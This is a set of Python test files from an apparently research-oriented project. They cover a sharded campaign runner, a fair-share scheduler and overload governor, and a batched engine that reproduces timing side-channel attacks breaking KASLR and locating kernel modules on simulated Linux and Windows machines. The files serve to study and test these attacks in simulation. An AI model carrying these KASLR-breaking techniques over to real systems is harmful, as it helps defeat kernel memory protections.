        assert all(u["status"] == "INCOMPLETE"
                   for u in report.store["units"])
        assert set(report.shard_failures) == {0, 1}
        meta, __ = campaign_status(tmp_path / "c.jsonl")
        assert not meta["finished"]

    def test_resume_after_total_fault_death_completes(self, scenario_dir,
                                                      tmp_path):
        profile = {"name": "all-dead", "description": "x",
                   "rates": {"enospc": 1.0}}
        ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            fault_profile=profile,
        ).run()
        # the resume draws a fresh (salted) fault sequence, but with
        # rate-1.0 ENOSPC the shards die again -- so resume with the
        # profile overridden via a fresh runner config is not possible;
        # instead verify the journaled profile is honored and the
        # campaign stays INCOMPLETE rather than corrupt
        report = ShardedCampaignRunner(
            tmp_path / "c.jsonl", shards=2,
        ).run(resume=True)
        assert not report.ok
        records = merged_records(tmp_path / "c.jsonl", 2)
        __, units = fold_records(records)  # merged fold stays clean
        assert all(u["status"] == "pending" for u in units.values())


# -- seeded retry jitter -------------------------------------------------------


class TestSeededBackoff:
    def test_same_seed_same_schedule(self):
        a = SupervisedPool(backoff_base_s=0.05, seed=9)
        b = SupervisedPool(backoff_base_s=0.05, seed=9)
        schedule_a = [a._backoff_s("unit-{}".format(i), n)
                      for i in range(8) for n in (1, 2, 3)]
        schedule_b = [b._backoff_s("unit-{}".format(i), n)
                      for i in range(8) for n in (1, 2, 3)]
        assert schedule_a == schedule_b

    def test_different_seed_different_schedule(self):
        a = SupervisedPool(backoff_base_s=0.05, seed=9)
        b = SupervisedPool(backoff_base_s=0.05, seed=10)
        assert [a._backoff_s("u", n) for n in (1, 2, 3)] != \
            [b._backoff_s("u", n) for n in (1, 2, 3)]

    def test_jitter_bounded_and_exponential(self):
        pool = SupervisedPool(backoff_base_s=0.05, seed=1)
        for attempts in (1, 2, 3):
            base = 0.05 * (2 ** (attempts - 1))
            delay = pool._backoff_s("unit", attempts)
            assert base <= delay < 2 * base

    def test_no_seed_keeps_plain_exponential(self):
        pool = SupervisedPool(backoff_base_s=0.05)
        assert pool._backoff_s("unit", 3) == 0.05 * 4


# -- fsck of a sharded campaign ------------------------------------------------


class TestShardedFsck:
    def _corrupt_mid_file(self, path):
        lines = path.read_bytes().splitlines(keepends=True)
        assert len(lines) >= 3
        lines[1] = b'{"not": "sealed"}\n'
        path.write_bytes(b"".join(lines))

    def _unfinish(self, journal):
        lines = journal.read_bytes().splitlines(keepends=True)
        journal.write_bytes(b"".join(
            line for line in lines if b"campaign-finish" not in line
        ))

    def test_resume_over_corruption_suggests_fsck(self, scenario_dir,
                                                  tmp_path, capsys):
        ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            seed=3,
        ).run()
        self._unfinish(tmp_path / "c.jsonl")
        shard1 = shard_journal_path(tmp_path / "c.jsonl", 1)
        self._corrupt_mid_file(shard1)
        with pytest.raises(JournalCorrupt) as excinfo:
            ShardedCampaignRunner(
                tmp_path / "c.jsonl", shards=2,
            ).run(resume=True)
        assert "fsck" in excinfo.value.hint
        # and through the CLI, the structured JSON error carries it
        code = main(["campaign", "resume", str(tmp_path / "c.jsonl")])
        assert code == 2
        error = json.loads(capsys.readouterr().err.strip())
        assert error["error"] == "JournalCorrupt"
        assert "repro campaign fsck" in error["hint"]

    def test_fsck_quarantines_and_rebuild_resumes_identically(
            self, scenario_dir, tmp_path, capsys):
        clean = ShardedCampaignRunner(
            tmp_path / "clean.jsonl", directory=scenario_dir, shards=2,
            seed=3,
        ).run()
        ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            seed=3,
        ).run()
        self._unfinish(tmp_path / "c.jsonl")
        shard1 = shard_journal_path(tmp_path / "c.jsonl", 1)
        self._corrupt_mid_file(shard1)

        code = main(["campaign", "fsck", str(tmp_path / "c.jsonl"),
                     "--rebuild"])
        capsys.readouterr()
        assert code == 1  # something was quarantined
        corrupt = pathlib.Path(str(shard1) + ".corrupt")
        salvage_path = pathlib.Path(str(shard1) + ".salvage.json")
        assert corrupt.exists() and salvage_path.exists()
        salvage = json.loads(salvage_path.read_text())
        assert salvage["schema"] == "repro-campaign-salvage/v1"
        assert salvage["status"] == "quarantined"
        assert salvage["damage"][0]["line"] == 2
        assert salvage["units"]["done"] >= 1

        # the rebuilt journal replays clean and the resume converges to
        # the same store as the uninterrupted campaign
        report = ShardedCampaignRunner(
            tmp_path / "c.jsonl", shards=2,
        ).run(resume=True)
        assert _strip(report.store) == _strip(clean.store)

    def test_fsck_torn_tail_is_left_alone(self, scenario_dir, tmp_path):
        ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
        ).run()
        shard0 = shard_journal_path(tmp_path / "c.jsonl", 0)
        with open(shard0, "ab") as handle:
            handle.write(b'{"torn": ')
        report = fsck_journal(shard0)
        assert report["status"] == "torn-tail"
        assert shard0.exists()
        assert not pathlib.Path(str(shard0) + ".corrupt").exists()

    def test_fsck_clean_journal_reports_ok(self, scenario_dir, tmp_path):
        ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
        ).run()
        report = fsck_journal(tmp_path / "c.jsonl")
        assert report["status"] == "ok"
        assert report["finished"]


# -- kill -9 the coordinator ---------------------------------------------------


class TestShardedCli:
    def _cmd(self, scenario_dir, journal, verb="run"):
        cmd = [sys.executable, "-m", "repro", "campaign"]
        if verb == "run":
            cmd += ["run", str(scenario_dir), "--journal", str(journal),
                    "--shards", "2", "--seed", "5"]
        else:
            cmd += ["resume", str(journal)]
        return cmd + ["--jobs", "2"]

    def _env(self):
        env = dict(os.environ)
        env["PYTHONPATH"] = SRC_DIR
        return env

    def test_sigkill_coordinator_then_resume_is_deterministic(
            self, scenario_dir, tmp_path):
        clean = tmp_path / "clean.jsonl"
        subprocess.run(
            self._cmd(scenario_dir, clean), env=self._env(),
            check=True, capture_output=True, timeout=300,
        )

        killed = tmp_path / "killed.jsonl"
        process = subprocess.Popen(
            self._cmd(scenario_dir, killed), env=self._env(),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        try:
            deadline = time.monotonic() + 120.0
            while time.monotonic() < deadline:
                if process.poll() is not None:
                    break  # finished before we could kill it; still valid
                if any(b"unit-finish" in p.read_bytes()
                       for p in tmp_path.glob("killed.shard-*.jsonl")):
                    process.send_signal(signal.SIGKILL)
                    break
                time.sleep(0.02)
            process.wait(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()

        subprocess.run(
            self._cmd(scenario_dir, killed, verb="resume"),
            env=self._env(), check=True, capture_output=True, timeout=300,
        )
        clean_store = json.loads(
            (tmp_path / "clean.results.json").read_text())
        killed_store = json.loads(
            (tmp_path / "killed.results.json").read_text())
        assert _strip(clean_store) == _strip(killed_store)
