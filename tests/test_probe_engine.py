"""The batched probe engine, cross-validated against the per-op path.

Three layers of guarantees:

* **exactness** -- simulated clock, performance counters, and the
  walker's walk count after a batched sweep equal the per-op loop's
  (the accounting is closed-form, not approximate);
* **equivalence** -- over multiple CPU models and seeds, the batched
  attacks recover the same KASLR base / module list / Windows region as
  the per-op reference (noise values differ -- the vectorized RNG
  consumes the stream differently -- but classification outcomes agree);
* **cache soundness** -- the generation-tagged page-table lookup cache
  never serves a stale result across map/unmap/protect interleavings,
  including mutations through KPTI-shared subtrees.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks.kaslr_break import break_kaslr
from repro.attacks.module_detect import detect_modules
from repro.attacks.primitives import double_probe_load
from repro.attacks.windows_break import find_kernel_region
from repro.cpu.noise import NoiseModel, sample_noise_array
from repro.errors import MappingError
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE_2M, split_indices
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import PageTable
from repro.os.linux import layout

USER_RW = PageFlags.PRESENT | PageFlags.USER | PageFlags.WRITABLE
KERNEL_RW = PageFlags.PRESENT | PageFlags.WRITABLE


def _slot_vas(count):
    return [layout.kernel_base_of_slot(slot) for slot in range(count)]


class TestSweepAccounting:
    """The engine's closed-form replay is exact, not approximate."""

    def _pair(self, cpu="i5-12400F", seed=42):
        return (
            Machine.linux(cpu=cpu, seed=seed),
            Machine.linux(cpu=cpu, seed=seed),
        )

    def test_double_probe_clock_perf_and_walks_equal(self):
        reference, batched = self._pair()
        vas = _slot_vas(48)
        for va in vas:
            double_probe_load(reference.core, va, rounds=4)
        batched.core.probe_sweep(vas, rounds=4, op="load")
        assert reference.core.clock.cycles == batched.core.clock.cycles
        assert reference.core.perf.snapshot() == batched.core.perf.snapshot()
        assert (
            reference.core.walker.completed_walks
            == batched.core.walker.completed_walks
        )

    def test_single_probe_clock_and_perf_equal(self):
        reference, batched = self._pair(seed=7)
        vas = _slot_vas(32)
        for va in vas:
            min(reference.core.timed_masked_load(va) for _ in range(3))
        batched.core.probe_sweep(vas, rounds=3, op="load", warm=False,
                                 reduce="min")
        assert reference.core.clock.cycles == batched.core.clock.cycles
        assert reference.core.perf.snapshot() == batched.core.perf.snapshot()

    def test_single_round_single_probe_equal(self):
        reference, batched = self._pair(seed=3)
        vas = _slot_vas(8)
        for va in vas:
            reference.core.timed_masked_load(va)
        batched.core.probe_sweep(vas, rounds=1, op="load", warm=False,
                                 reduce="min")
        assert reference.core.clock.cycles == batched.core.clock.cycles
        assert reference.core.perf.snapshot() == batched.core.perf.snapshot()

    def test_store_sweep_clock_and_perf_equal(self):
        reference, batched = self._pair(seed=11)
        page = reference.playground.user_rw
        for _ in range(600):
            reference.core.timed_masked_store(page)
        batched.core.probe_sweep(
            [batched.playground.user_rw], rounds=600, op="store",
            warm=False, reduce=None,
        )
        assert reference.core.clock.cycles == batched.core.clock.cycles
        assert reference.core.perf.snapshot() == batched.core.perf.snapshot()

    def test_raw_reduce_shape_and_mean_reduce_agree(self):
        machine = Machine.linux(seed=4)
        vas = _slot_vas(6)
        raw = machine.core.probe_sweep(vas, rounds=5, op="load", reduce=None)
        assert raw.shape == (6, 5)
        other = Machine.linux(seed=4)
        means = other.core.probe_sweep(vas, rounds=5, op="load")
        assert np.allclose(raw.mean(axis=1), means)

    def test_timer_coarsening_applies(self):
        machine = Machine.linux(seed=9)
        machine.core.timer_resolution = 64
        timings = machine.core.probe_sweep(
            _slot_vas(8), rounds=2, op="load", reduce=None
        )
        assert (timings % 64 == 0).all()

    def test_input_validation(self):
        machine = Machine.linux(seed=1)
        with pytest.raises(ValueError):
            machine.core.probe_sweep([0x1000], rounds=1, op="prefetch")
        with pytest.raises(ValueError):
            machine.core.probe_sweep([0x1000], rounds=0)
        with pytest.raises(ValueError):
            machine.core.probe_sweep([0x1000], rounds=1, reduce="median")
        empty = machine.core.probe_sweep([], rounds=2)
        assert empty.size == 0


class TestBatchedEquivalence:
    """Batched attacks reach the per-op path's conclusions, seed for seed."""

    @pytest.mark.parametrize("cpu", ["i5-12400F", "i7-1065G7",
                                     "ryzen5-5600X"])
    @pytest.mark.parametrize("seed", [1, 2, 3])
    def test_kaslr_base_recovery_matches(self, cpu, seed):
        reference = break_kaslr(Machine.linux(cpu=cpu, seed=seed))
        batched = break_kaslr(Machine.linux(cpu=cpu, seed=seed),
                              batched=True)
        assert batched.method == reference.method
        assert batched.base == reference.base
        assert batched.slot == reference.slot
        assert batched.base is not None

    @pytest.mark.parametrize("seed", [1, 2, 3])
    def test_kpti_base_recovery_matches(self, seed):
        reference = break_kaslr(Machine.linux(seed=seed, kpti=True))
        batched = break_kaslr(Machine.linux(seed=seed, kpti=True),
                              batched=True)
        assert reference.method == "kpti-trampoline"
        assert batched.base == reference.base

    @pytest.mark.parametrize("seed", [1, 2, 3])
    def test_module_detection_matches(self, seed):
        reference = detect_modules(Machine.linux(seed=seed), max_slots=3072)
        batched = detect_modules(Machine.linux(seed=seed), max_slots=3072,
                                 batched=True)
        assert batched.identified == reference.identified
        assert (
            [(r.start, r.pages) for r in batched.regions]
            == [(r.start, r.pages) for r in reference.regions]
        )

    @pytest.mark.parametrize("seed", [1, 2])
    def test_windows_region_matches(self, seed):
        reference = find_kernel_region(Machine.windows(seed=seed))
        batched = find_kernel_region(Machine.windows(seed=seed),
                                     batched=True)
        assert batched.base == reference.base
        assert batched.region_slots == reference.region_slots
        assert batched.base is not None

    def test_batched_run_is_deterministic(self):
        first = break_kaslr(Machine.linux(seed=6), batched=True)
        second = break_kaslr(Machine.linux(seed=6), batched=True)
        assert first.base == second.base
        assert first.timings == second.timings
        assert first.threshold == second.threshold


class TestNoiseKernel:
    """One canonical vectorized noise kernel, distribution-pinned."""

    def test_sample_array_matches_scalar_distribution(self):
        model = NoiseModel(np.random.default_rng(0), sigma=2.0,
                           spike_prob=0.002, spike_cycles=400)
        n = 200_000
        scalar = np.array([model.sample() for _ in range(n)])
        vector = NoiseModel(
            None, sigma=2.0, spike_prob=0.002, spike_cycles=400
        ).sample_array(np.random.default_rng(1), n)
        # the rare 400-600 cycle spikes dominate the sampling error of
        # the mean (~0.09 between independent streams at this n)
        assert abs(scalar.mean() - vector.mean()) < 0.3
        assert abs(scalar.std() - vector.std()) < 2.0
        # the Gaussian component: compare means of the spike-free bulk
        assert abs(
            scalar[scalar < 100].mean() - vector[vector < 100].mean()
        ) < 0.02
        # spike frequency: values far above the Gaussian tail
        assert abs(
            (scalar > 100).mean() - (vector > 100).mean()
        ) < 0.0005
        assert vector.min() >= 0
        assert np.all(vector == np.rint(vector))

    def test_fastscan_noise_delegates_to_canonical_kernel(self):
        from repro.analysis.fastscan import _noise, extract_scan_model

        model = extract_scan_model("i5-12400F")
        via_fastscan = _noise(np.random.default_rng(5), (100,), model)
        direct = sample_noise_array(
            np.random.default_rng(5), (100,), model.sigma,
            model.spike_prob, model.spike_cycles,
        )
        assert np.array_equal(via_fastscan, direct)

    def test_zero_spike_prob_is_pure_truncated_gaussian(self):
        values = sample_noise_array(
            np.random.default_rng(2), 50_000, 2.0, 0.0, 400
        )
        assert values.max() < 12
        assert values.min() >= 0


class TestLookupCacheSoundness:
    """The memoized lookup may never diverge from the raw traversal."""

    _VA_POOL = [0x1000, 0x2000, 0x3000, 0x200000, 0x400000,
                0x7F00_0000_0000, PAGE_SIZE_2M * 512]

    @settings(max_examples=60, deadline=None)
    @given(
        st.lists(
            st.tuples(
                st.sampled_from(["map", "unmap", "protect_ro",
                                 "protect_none", "set_dirty"]),
                st.sampled_from(_VA_POOL),
            ),
            min_size=1,
            max_size=24,
        )
    )
    def test_cache_agrees_with_uncached_across_interleavings(self, ops):
        table = PageTable()
        pfn = 1
        for action, va in ops:
            try:
                if action == "map":
                    table.map(va, pfn, USER_RW)
                    pfn += 1
                elif action == "unmap":
                    table.unmap(va)
                elif action == "protect_ro":
                    table.protect(va, PageFlags.PRESENT | PageFlags.USER)
                elif action == "protect_none":
                    table.protect(va, PageFlags.NONE)
                elif action == "set_dirty":
                    table.set_flag(va, PageFlags.DIRTY)
            except MappingError:
                pass
            for probe in self._VA_POOL:
                cached = table.lookup(probe)
                raw = table._lookup_uncached(probe)
                assert cached.present == raw.present
                assert cached.terminal_level == raw.terminal_level
                assert cached.nodes == raw.nodes
                if raw.present:
                    assert cached.translation.pfn == raw.translation.pfn
                    assert (
                        cached.translation.flags == raw.translation.flags
                    )
                # cached result must keep serving until the next mutation
                assert table.lookup(probe) is cached

    def test_mutation_through_shared_subtree_invalidates_alias(self):
        """KPTI: the user table aliases the kernel table's PML4 slots, so
        a mutation through either table must drop the other's cache."""
        kva = 0xFFFF_9000_0000_0000
        kernel = PageTable()
        kernel.map(kva, 0x42, KERNEL_RW)
        user = PageTable()
        user.share_top_level_from(kernel, split_indices(kva)[0])
        assert user.lookup(kva).present

        kernel.unmap(kva)
        assert not user.lookup(kva).present

        kernel.map(kva, 0x43, KERNEL_RW)
        assert user.lookup(kva).translation.pfn == 0x43

    def test_repeated_lookup_returns_cached_object(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        assert table.lookup(0x1000) is table.lookup(0x1000)
        table.set_flag(0x1000, PageFlags.ACCESSED)
        refreshed = table.lookup(0x1000)
        assert refreshed.translation.flags & PageFlags.ACCESSED
