"""Fair-share scheduling, overload degradation, and the soak pieces.

Pure-logic tests drive the scheduler and the governor with injectable
clocks and probes; the integration tests put a real server on a real
socket and prove the two headline properties end to end: a trickle
tenant's queue wait stays bounded while a flood tenant pipelines a
wall of work, and the overload ladder sheds with *typed* refusals
(``retry_after_s`` included) through every transition of
healthy -> degraded -> shedding -> healthy.
"""

import threading
import time

import pytest

from repro.errors import Overloaded
from repro.serve.backend import ServeBackend
from repro.serve.client import ServeClient
from repro.serve.overload import (
    DEGRADED,
    HEALTHY,
    SHEDDING,
    OverloadGovernor,
    Watermark,
)
from repro.serve.quota import QuotaLedger, TenantQuota
from repro.serve.scheduler import FAIR, FIFO, FairShareScheduler
from repro.serve.server import ServeServer


class FakeClock:
    def __init__(self, now=100.0):
        self.now = now

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


def _drain_all(scheduler, room=1):
    """Dispatch everything, one take() at a time; returns tenant order."""
    order = []
    while scheduler.depth():
        taken = scheduler.take(room)
        if not taken:
            break
        order.extend(tenant for tenant, __, __ in taken)
    return order


# -- scheduler ----------------------------------------------------------------


class TestFairShareScheduler:
    def test_weighted_share_tracks_weights(self):
        weights = {"gold": 3.0, "bronze": 1.0}
        sched = FairShareScheduler(weight_of=weights.get)
        for index in range(40):
            sched.push("gold", "g{}".format(index), None)
            sched.push("bronze", "b{}".format(index), None)
        first = [tenant for tenant, __, __ in sched.take(32)]
        assert first.count("gold") == 24
        assert first.count("bronze") == 8

    def test_no_recredit_mid_burst(self):
        # the saturated front tenant must not be re-credited on every
        # take(): with equal weights the split stays exactly even no
        # matter how dispatches are batched
        sched = FairShareScheduler(quantum=4.0)
        for index in range(16):
            sched.push("a", "a{}".format(index), None)
            sched.push("b", "b{}".format(index), None)
        order = _drain_all(sched, room=1)
        assert order.count("a") == order.count("b") == 16
        # and in the first half, neither tenant got more than its
        # quantum ahead of the other
        half = order[:16]
        assert abs(half.count("a") - half.count("b")) <= 4

    def test_edf_within_tenant_only(self):
        clock = FakeClock()
        sched = FairShareScheduler(clock=clock)
        sched.push("t", "none", None)
        sched.push("t", "late", None, deadline=clock.now + 60.0)
        sched.push("t", "soon", None, deadline=clock.now + 5.0)
        keys = [key for __, key, __ in sched.take(3)]
        assert keys == ["soon", "late", "none"]

    def test_aging_dispatches_starved_tenant(self):
        clock = FakeClock()
        weights = {"heavy": 100.0, "starved": 0.001}
        sched = FairShareScheduler(weight_of=weights.get,
                                   aging_s=30.0, clock=clock)
        sched.push("starved", "old", None)
        for index in range(64):
            sched.push("heavy", "h{}".format(index), None)
        first = [key for __, key, __ in sched.take(8)]
        assert "old" not in first
        clock.advance(31.0)
        aged = [key for __, key, __ in sched.take(1)]
        assert aged == ["old"]
        assert sched.snapshot()["aged_dispatches"] == 1

    def test_fifo_mode_is_arrival_order(self):
        sched = FairShareScheduler(mode=FIFO)
        sched.push("a", "a0", None)
        sched.push("b", "b0", None)
        sched.push("a", "a1", None)
        assert [k for __, k, __ in sched.take(3)] == ["a0", "b0", "a1"]

    def test_zero_weight_still_progresses(self):
        sched = FairShareScheduler(weight_of=lambda t: 0.0)
        sched.push("t", "k", None)
        assert [k for __, k, __ in sched.take(1)] == ["k"]

    def test_discard_and_queued(self):
        sched = FairShareScheduler()
        sched.push("t", "k1", None)
        sched.push("t", "k2", None)
        assert sched.queued("k1")
        assert sched.discard("k1")
        assert not sched.queued("k1")
        assert not sched.discard("k1")
        assert sched.depth() == 1

    def test_snapshot_carries_fairness_evidence(self):
        clock = FakeClock()
        sched = FairShareScheduler(clock=clock)
        waits = []
        sched.on_wait = lambda tenant, wait_s: waits.append(
            (tenant, wait_s))
        sched.push("t", "k", None)
        clock.advance(0.5)
        sched.take(1)
        snap = sched.snapshot()
        assert snap["mode"] == FAIR
        assert snap["tenants"]["t"]["dispatched"] == 1
        assert snap["tenants"]["t"]["p99_wait_ms"] == pytest.approx(
            500.0, abs=1.0)
        assert waits == [("t", pytest.approx(0.5))]

    def test_mode_is_validated(self):
        with pytest.raises(ValueError):
            FairShareScheduler(mode="lifo")


# -- governor -----------------------------------------------------------------


def _governor(value_box, clock, hold_s=2.0, **kwargs):
    return OverloadGovernor(
        [Watermark("load", lambda: value_box["value"],
                   degraded_at=0.75, shedding_at=0.95)],
        hold_s=hold_s, clock=clock, **kwargs)


class TestOverloadGovernor:
    def test_escalates_immediately_relaxes_after_hold(self):
        clock = FakeClock()
        box = {"value": 0.0}
        gov = _governor(box, clock)
        assert gov.evaluate() == HEALTHY
        box["value"] = 0.80
        assert gov.evaluate() == DEGRADED
        box["value"] = 0.99
        assert gov.evaluate() == SHEDDING
        # relief is held back for hold_s
        box["value"] = 0.0
        assert gov.evaluate() == SHEDDING
        clock.advance(1.0)
        assert gov.evaluate() == SHEDDING
        clock.advance(1.1)
        assert gov.evaluate() == HEALTHY
        assert gov.snapshot()["transitions"] == 3

    def test_flap_resets_the_hold_window(self):
        clock = FakeClock()
        box = {"value": 0.99}
        gov = _governor(box, clock)
        assert gov.evaluate() == SHEDDING
        box["value"] = 0.0
        gov.evaluate()
        clock.advance(1.5)
        box["value"] = 0.99  # pressure returns inside the window
        assert gov.evaluate() == SHEDDING
        box["value"] = 0.0
        gov.evaluate()
        clock.advance(1.5)
        assert gov.evaluate() == SHEDDING  # window restarted

    def test_below_direction_for_headroom_signals(self):
        box = {"value": 1000.0}
        gov = OverloadGovernor(
            [Watermark("disk", lambda: box["value"],
                       degraded_at=256.0, shedding_at=64.0,
                       direction="below")],
            clock=FakeClock())
        assert gov.evaluate() == HEALTHY
        box["value"] = 100.0
        assert gov.evaluate() == DEGRADED
        box["value"] = 10.0
        assert gov.evaluate() == SHEDDING

    def test_broken_probe_reads_healthy(self):
        def boom():
            raise OSError("disk probe offline")

        gov = OverloadGovernor(
            [Watermark("disk", boom, degraded_at=256.0, shedding_at=64.0,
                       direction="below")],
            clock=FakeClock())
        assert gov.evaluate() == HEALTHY
        assert gov.snapshot()["watermarks"]["disk"]["value"] is None

    def test_snapshot_and_shed_counters(self):
        clock = FakeClock()
        box = {"value": 0.8}
        gov = _governor(box, clock)
        gov.evaluate()
        gov.note_shed(DEGRADED)
        snap = gov.snapshot()
        assert snap["state"] == DEGRADED
        assert snap["sheds"][DEGRADED] == 1
        assert snap["watermarks"]["load"]["value"] == 0.8
        assert gov.retry_after_s(SHEDDING) == 5.0

    def test_watermark_direction_is_validated(self):
        with pytest.raises(ValueError):
            Watermark("w", lambda: 0, 1, 2, direction="sideways")


# -- live service -------------------------------------------------------------


def _noop(name, seed=0, spin=64):
    return {
        "name": name,
        "machine": {"os": "none", "seed": seed},
        "attack": {"kind": "noop", "spin": spin},
        "expect": {"correct": True},
    }


def _start_server(tmp_path, ledger, max_queue=256, governor=None,
                  jobs=2, **kwargs):
    backend = ServeBackend(tmp_path / "state", shards=2, jobs=jobs,
                           watchdog_s=60.0)
    server = ServeServer(backend, ledger,
                         socket_path=str(tmp_path / "serve.sock"),
                         max_queue=max_queue, governor=governor,
                         **kwargs)
    server.start()
    return server


def _wide_quota(name, weight):
    return TenantQuota(name=name, max_requests=128, max_units=256,
                       weight=weight)


class TestFloodVersusTrickle:
    def test_trickle_wait_stays_bounded_behind_a_flood(self, tmp_path):
        ledger = QuotaLedger(TenantQuota(), {
            "flood": _wide_quota("flood", 1.0),
            "trickle": _wide_quota("trickle", 1.0),
        })
        # a permissive governor: this test is about scheduling, and
        # the default inflight watermark would (correctly) shed a
        # 48-deep pipeline
        server = _start_server(tmp_path, ledger, jobs=2,
                               governor=OverloadGovernor([]))
        flood_n = 48
        try:
            flood = ServeClient(server.address).connect("flood")
            # pipeline a wall of units on one connection; a reader
            # thread drains the replies so the flood keeps pressure on
            # the scheduler, not on the server's write timeout
            for index in range(flood_n):
                flood.send({"type": "submit", "id": "f{}".format(index),
                            "scenario": _noop("f{}".format(index), index)})
            seen = set()

            def _drain_flood():
                while len(seen) < flood_n:
                    reply = flood.recv()
                    if reply.get("type") == "verdict":
                        seen.add(reply["id"])

            reader = threading.Thread(target=_drain_flood, daemon=True)
            reader.start()
            trickle_done = 0
            with ServeClient(server.address).connect("trickle") as tr:
                for index in range(5):
                    verdict = tr.submit("t{}".format(index),
                                        scenario=_noop("t", index))
                    assert verdict["status"] == "done"
                    trickle_done += 1
            status = ServeClient(server.address).connect().status()
            tenants = status["scheduler"]["tenants"]
            assert trickle_done == 5
            # the headline bound: the trickle tenant never sat behind
            # the whole flood wall (FIFO would put its p99 at the
            # flood drain time)
            assert tenants["trickle"]["p99_wait_ms"] < 2000.0
            reader.join(timeout=60)
            assert len(seen) == flood_n
            flood.close()
            assert tenants["flood"]["dispatched"] >= 1
        finally:
            server.drain()

    def test_fifo_scheduler_is_the_control_arm(self, tmp_path):
        backend = ServeBackend(tmp_path / "state", shards=2, jobs=2,
                               watchdog_s=60.0,
                               scheduler=FairShareScheduler(mode=FIFO))
        server = ServeServer(
            backend, QuotaLedger(TenantQuota()),
            socket_path=str(tmp_path / "serve.sock"), max_queue=64)
        server.start()
        try:
            with ServeClient(server.address).connect("a") as client:
                verdict = client.submit("r1", scenario=_noop("r1"))
                assert verdict["status"] == "done"
            status = ServeClient(server.address).connect().status()
            assert status["scheduler"]["mode"] == FIFO
        finally:
            server.drain()


class TestOverloadLadderLive:
    def _server(self, tmp_path, box, hold_s=0.0):
        governor = OverloadGovernor(
            [Watermark("load", lambda: box["value"],
                       degraded_at=0.75, shedding_at=0.95)],
            hold_s=hold_s,
            retry_after_s={DEGRADED: 0.05, SHEDDING: 0.05})
        ledger = QuotaLedger(TenantQuota(max_requests=64, max_units=128))
        return _start_server(tmp_path, ledger, governor=governor)

    def test_ladder_sheds_typed_through_every_state(self, tmp_path):
        box = {"value": 0.0}
        server = self._server(tmp_path, box)
        try:
            with ServeClient(server.address, retries=0).connect("a") as c:
                # healthy: everything admitted
                assert c.submit("h1", scenario=_noop("h1"),
                                priority=0)["status"] == "done"

                # degraded: low priority shed, normal priority marked
                box["value"] = 0.80
                shed = c.submit("d-low", scenario=_noop("d"), priority=0)
                assert shed["type"] == "rejected"
                assert shed["reason"] == "degraded"
                assert shed["retry_after_s"] == pytest.approx(0.05)
                kept = c.submit("d-high", scenario=_noop("d"), priority=1)
                assert kept["status"] == "done"
                assert "overload" in (kept.get("degrade") or [])

                # shedding: everything refused, typed
                box["value"] = 0.99
                shed = c.submit("s1", scenario=_noop("s"), priority=5)
                assert shed["type"] == "rejected"
                assert shed["reason"] == "shedding"
                assert shed["retry_after_s"] == pytest.approx(0.05)

                # relief: back to healthy after the (zero) hold window
                # (in production serve_forever ticks evaluate(); the
                # test drives the tick itself)
                box["value"] = 0.0
                deadline = time.time() + 10.0
                while server.governor.evaluate() != HEALTHY:
                    assert time.time() < deadline
                    time.sleep(0.05)
                done = c.submit("h2", scenario=_noop("h2"), priority=0)
                assert done["status"] == "done"
                assert "overload" not in (done.get("degrade") or [])
            snap = server.governor.snapshot()
            assert snap["sheds"][DEGRADED] >= 1
            assert snap["sheds"][SHEDDING] >= 1
            health = ServeClient(server.address).connect().health()
            assert health["status"] == "ok"
        finally:
            server.drain()

    def test_health_and_status_surface_the_ladder(self, tmp_path):
        box = {"value": 0.99}
        server = self._server(tmp_path, box, hold_s=60.0)
        try:
            client = ServeClient(server.address).connect()
            server.governor.evaluate()
            assert client.health()["status"] == "shedding"
            status = client.status()
            assert status["overload"]["state"] == "shedding"
            assert status["overload"]["watermarks"]["load"]["value"] \
                == pytest.approx(0.99)
            assert status["breakers"]["overload"]["state"] == "shedding"
            assert "queue" in status and "scheduler" in status
            client.close()
        finally:
            box["value"] = 0.0
            server.drain()

    def test_client_backs_off_and_recovers(self, tmp_path):
        box = {"value": 0.99}
        server = self._server(tmp_path, box)
        try:
            server.governor.evaluate()
            relief = threading.Timer(0.3, box.update, ({"value": 0.0},))
            relief.start()
            with ServeClient(server.address, retries=8,
                             seed=7).connect("a") as client:
                verdict = client.submit("r1", scenario=_noop("r1"))
            relief.cancel()
            assert verdict["status"] == "done"
            # the verdict only arrived because refused attempts backed
            # off and retried: the governor counted the sheds
            assert server.governor.snapshot()["sheds"][SHEDDING] >= 1
        finally:
            box["value"] = 0.0
            server.drain()

    def test_admit_direct_refusals_are_typed(self, tmp_path):
        box = {"value": 0.80}
        server = self._server(tmp_path, box)
        try:
            with pytest.raises(Overloaded) as excinfo:
                server.admit("a", 1, priority=0)
            assert excinfo.value.reason == "degraded"
            assert excinfo.value.retry_after_s == pytest.approx(0.05)
            box["value"] = 0.99
            with pytest.raises(Overloaded) as excinfo:
                server.admit("a", 1, priority=10)
            assert excinfo.value.reason == "shedding"
        finally:
            box["value"] = 0.0
            server.drain()


# -- housekeeping guard -------------------------------------------------------


class TestLivePlanPruneGuard:
    def test_housekeep_spares_live_plan_artifacts(self, tmp_path):
        backend = ServeBackend(tmp_path / "state", prune_age_s=0.0,
                               prune_keep=0)
        for directory in (backend.state_dir, backend.plan_dir,
                          backend.result_dir):
            directory.mkdir(parents=True, exist_ok=True)
        live = backend.plan_dir / "a.plan-1.jsonl.123.tmp"
        live_beats = backend.plan_dir / "a.plan-1.beats-0"
        dead = backend.plan_dir / "b.plan-9.jsonl.456.tmp"
        live.write_text("x")
        live_beats.mkdir()
        dead.write_text("x")
        backend._plan_runners["a.plan-1"] = object()
        removed = backend.housekeep()
        assert live.exists() and live_beats.exists()
        assert not dead.exists()
        assert str(dead) in [str(p) for p in removed]

    def test_prune_thresholds_ride_the_constructor(self, tmp_path):
        backend = ServeBackend(tmp_path / "state", prune_age_s=3600.0,
